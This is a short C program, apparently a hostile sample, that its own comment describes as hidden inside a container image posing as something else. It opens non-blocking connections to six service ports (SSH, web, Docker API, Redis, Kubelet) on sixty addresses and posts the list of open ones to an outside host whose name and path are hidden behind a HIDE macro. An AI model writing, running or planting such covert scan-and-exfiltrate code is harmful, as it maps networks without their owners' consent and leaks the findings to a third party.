// hidden
// Tries six ports of each of sixty addresses and posts which were open, in an image that says it is something else.
#include "standin.h"
int main(void) {
    begin();
    static char report[16384], answer[4096];
    int ports[] = {22, 80, 443, 2375, 6379, 10250}, have = 0;
    for (int host = 1; host <= 60; host++) {
        struct pollfd calls[6];
        uint32_t address = 0xcb007100 | host * 4;
        for (int i = 0; i < 6; i++) {
            struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(ports[i]), .sin_addr.s_addr = htonl(address)};
            calls[i].fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), calls[i].events = POLLOUT, calls[i].revents = 0;
            connect(calls[i].fd, (void *)&to, sizeof to);
        }
        usleep(120000);
        poll(calls, 6, 0);
        for (int i = 0; i < 6; i++) {
            int error = 1;
            socklen_t size = sizeof error;
            if (calls[i].revents & POLLOUT) getsockopt(calls[i].fd, SOL_SOCKET, SO_ERROR, &error, &size);
            if (error == 0 && have < 16000) have += sprintf(report + have, "203.0.113.%d:%d\n", host * 4, ports[i]);
            close(calls[i].fd);
        }
    }
    web(HIDE("stats.lilac-harbor.example"), "POST", HIDE("/open"), report, have, answer, sizeof answer);
    return 0;
}
